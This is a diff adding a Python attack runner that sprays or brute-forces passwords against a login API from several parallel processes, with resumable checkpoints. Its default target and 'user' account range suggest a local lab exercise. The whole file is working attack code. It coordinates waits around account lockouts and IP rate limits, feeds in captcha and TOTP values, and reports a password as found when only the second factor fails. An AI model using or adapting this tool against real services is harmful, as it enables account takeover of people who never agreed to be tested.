@@ -0,0 +1,214 @@
+import os
+import json
+import time
+import argparse
+import multiprocessing as mp
+
+import requests
+
+from attacker import (
+    LOCAL_ADDRESS, FIRST_USER, LAST_USER, MAX_ATTEMPTS, MAX_SECONDS, AttackScheduler
+)
+from candidates import DEFAULT_RULES
+
+
+DEFAULT_SHARDS = os.cpu_count() or 4
+DEFAULT_CHECKPOINT = os.path.join(os.path.dirname(__file__), 'attack_progress.json')
+CHECKPOINT_INTERVAL = 2.0  # seconds between progress snapshots
+
+
+# every shard attacks every user with candidates i % shards == shard, so even a single account
+# is brute-forced by all processes; a user's resume point is the lowest progress over the shards
+def merged_progress(progress, shards, user_count):
+    return [min(progress[shard * user_count + i] for shard in range(shards)) for i in range(user_count)]
+
+
+# same run = same strategy, users, rules and target; progress is per user, so the shard count may change
+def run_fingerprint(args, usernames):
+    return {"strategy": args.strategy, "users": usernames, "rules": args.rules, "url": args.url}
+
+
+def load_checkpoint(path, fingerprint):
+    try:
+        with open(path, 'r') as f:
+            checkpoint = json.load(f)
+    except (OSError, ValueError):
+        return None
+    if checkpoint.get("fingerprint") != fingerprint:
+        print("Checkpoint is for a different run - starting over")
+        return None
+    return checkpoint
+
+
+# write to a temp file and rename so a kill never leaves a half-written checkpoint
+def save_checkpoint(path, checkpoint):
+    tmp_path = path + '.tmp'
+    with open(tmp_path, 'w') as f:
+        json.dump(checkpoint, f, indent=2)
+    os.replace(tmp_path, path)
+
+
+def post(session, url, username, password, type, code):
+    if type == "totp":
+        endpoint = "/api/login_totp"
+        data = {'username': username, 'password': password, 'totp_code': code, 'captcha_code': ''}
+    else:
+        endpoint = "/api/login"
+        data = {'username': username, 'password': password, 'totp_code': '',
+                'captcha_code': code if type == "captcha" else ''}
+    try:
+        response = session.post(url + endpoint, json=data, timeout=30)
+    except requests.RequestException as e:
+        print(f"Request failed: {e}")
+        return 0, ""
+    return response.status_code, response.text
+
+
+# one worker process: the scheduler handles lockouts (423) and rate limits (429) by resending
+# the candidate after the server's wait, so progress only moves past answered candidates.
+# Lockouts are per account and rate limits per IP, so shards share what they learn about both.
+def run_shard(shard, args, usernames, start, progress, locked_until, ip_blocked_until, attempts,
+              attempts_lock, stop, found_queue, deadline):
+    session = requests.Session()
+    session.headers.update({'Connection': 'keep-alive'})
+    scheduler = AttackScheduler(usernames, focus=args.strategy == "brute_force", rules=args.rules,
+                                start=start, stop=stop, shard=shard, shards=args.shards)
+    offset = shard * len(usernames)
+
+    def publish():
+        for i, position in enumerate(scheduler.progress().values()):
+            progress[offset + i] = position
+
+    def sync_waits():
+        for i, username in enumerate(usernames):
+            until = max(scheduler.locked_until.get(username, 0.0), locked_until[i])
+            scheduler.locked_until[username] = locked_until[i] = until
+        until = max(scheduler.ip_blocked_until, ip_blocked_until.value)
+        scheduler.ip_blocked_until = ip_blocked_until.value = until
+
+    while not stop.is_set():
+        sync_waits()
+        job = scheduler.next_attempt()
+        if job is None:
+            break
+        username, password = job
+
+        # global budgets - shared by all shards; an unsent candidate stays untried
+        with attempts_lock:
+            out_of_attempts = attempts.value >= args.max_attempts
+            if not out_of_attempts:
+                attempts.value += 1
+        if out_of_attempts or time.time() >= deadline:
+            print("Reached maximum attempts limit." if out_of_attempts else "Reached time limit.")
+            scheduler.retry[username] = password
+            stop.set()
+            break
+        type, code = scheduler.request_args(username)
+        status, text = post(session, args.url, username, password, type, code)
+        if args.verbose:
+            print(f"[shard {shard}] {status} {username} {password}")
+
+        if scheduler.record(username, password, (status, text)):
+            found_queue.put((username, password))
+            stop.set()
+        elif status == 403 and "totp" in text and "Invalid password" not in text:
+            # right password, only the second factor is missing
+            found_queue.put((username, password))
+            stop.set()
+        sync_waits()
+        publish()
+
+    publish()
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Sharded multi-process attack runner with resumable progress")
+    parser.add_argument("--strategy", choices=["spraying", "brute_force"], default="spraying")
+    parser.add_argument("--shards", type=int, default=DEFAULT_SHARDS)
+    parser.add_argument("--url", default=LOCAL_ADDRESS)
+    parser.add_argument("--max-attempts", type=int, default=MAX_ATTEMPTS)
+    parser.add_argument("--max-seconds", type=float, default=MAX_SECONDS)
+    parser.add_argument("--users", nargs="*", help="usernames to attack (default: FIRST_USER..LAST_USER)")
+    parser.add_argument("--rules", nargs="+", default=list(DEFAULT_RULES), choices=["suffix", "case", "leet"],
+                        help="candidate mutation rules, applied in order")
+    parser.add_argument("--checkpoint", default=DEFAULT_CHECKPOINT)
+    parser.add_argument("--fresh", action="store_true", help="ignore an existing checkpoint")
+    parser.add_argument("--verbose", action="store_true")
+    args = parser.parse_args()
+
+    usernames = args.users or [f"user{i}" for i in range(FIRST_USER, LAST_USER)]
+    args.shards = max(1, args.shards)
+    fingerprint = run_fingerprint(args, usernames)
+    checkpoint = None if args.fresh else load_checkpoint(args.checkpoint, fingerprint)
+
+    if checkpoint and checkpoint.get("found"):
+        print(f"Run already finished - hacked! {checkpoint['found'][0]} / {checkpoint['found'][1]}")
+        return
+
+    prior_attempts = checkpoint["attempts"] if checkpoint else 0
+    prior_seconds = checkpoint["elapsed_seconds"] if checkpoint else 0.0
+    tried = checkpoint["tried"] if checkpoint else {}
+    if checkpoint:
+        print(f"Resuming: {prior_attempts} attempts, {prior_seconds:.0f}s already spent")
+
+    start = {username: tried.get(username, 0) for username in usernames}
+    progress = mp.Array('q', [start[username] for username in usernames] * args.shards)
+    locked_until = mp.Array('d', len(usernames))  # racy max() updates are fine - a lost one costs a 423
+    ip_blocked_until = mp.Value('d', 0.0)
+    attempts = mp.Value('q', prior_attempts, lock=False)
+    attempts_lock = mp.Lock()
+    stop = mp.Event()
+    found_queue = mp.Queue()
+    start_time = time.time()
+    deadline = start_time + args.max_seconds - prior_seconds
+
+    workers = [
+        mp.Process(
+            target=run_shard,
+            args=(shard, args, usernames, start, progress, locked_until, ip_blocked_until,
+                  attempts, attempts_lock, stop, found_queue, deadline),
+            name=f"shard-{shard}"
+        )
+        for shard in range(args.shards)
+    ]
+    for worker in workers:
+        worker.start()
+
+    found = None
+
+    def snapshot():
+        return {
+            "fingerprint": fingerprint,
+            "tried": dict(zip(usernames, merged_progress(progress, args.shards, len(usernames)))),
+            "attempts": attempts.value,
+            "elapsed_seconds": round(prior_seconds + time.time() - start_time, 1),
+            "found": found,
+        }
+
+    try:
+        while any(worker.is_alive() for worker in workers):
+            for worker in workers:
+                worker.join(timeout=CHECKPOINT_INTERVAL / len(workers))
+            if not found_queue.empty():
+                found = list(found_queue.get())
+                stop.set()
+            save_checkpoint(args.checkpoint, snapshot())
+    except KeyboardInterrupt:
+        print("Interrupted - stopping shards")
+        stop.set()
+        for worker in workers:
+            worker.join()
+
+    while not found_queue.empty():
+        found = found or list(found_queue.get())
+    save_checkpoint(args.checkpoint, snapshot())
+
+    print(f"attempts: {attempts.value} | elapsed: {prior_seconds + time.time() - start_time:.1f}s")
+    if found:
+        print(f"hacked! {found[0]} / {found[1]}")
+    else:
+        print("password too strong")
+
+
+if __name__ == '__main__':
+    main()